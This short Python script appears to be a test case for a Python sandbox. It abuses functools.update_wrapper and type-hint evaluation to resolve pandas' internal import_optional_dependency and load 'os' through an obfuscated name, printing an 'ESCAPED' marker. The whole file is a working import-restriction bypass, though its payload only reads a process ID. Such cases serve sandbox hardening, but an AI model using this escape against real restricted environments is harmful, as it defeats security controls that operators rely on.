"""A partial object has hints of the script's, and wraps a library's function, whose globals evaluate them."""
import functools
import typing
import pandas as pd

def mine(x: "list[import_optional_dependency]"):
    return x

p = functools.partial(mine)
functools.update_wrapper(p, mine, ("__annotations__",), ())
functools.update_wrapper(p, pd.DataFrame.merge, (), ())
[importer] = typing.get_args(typing.get_type_hints(p)["x"])
print("ESCAPED:partial_that_wraps", importer("o" + "s").getpid())
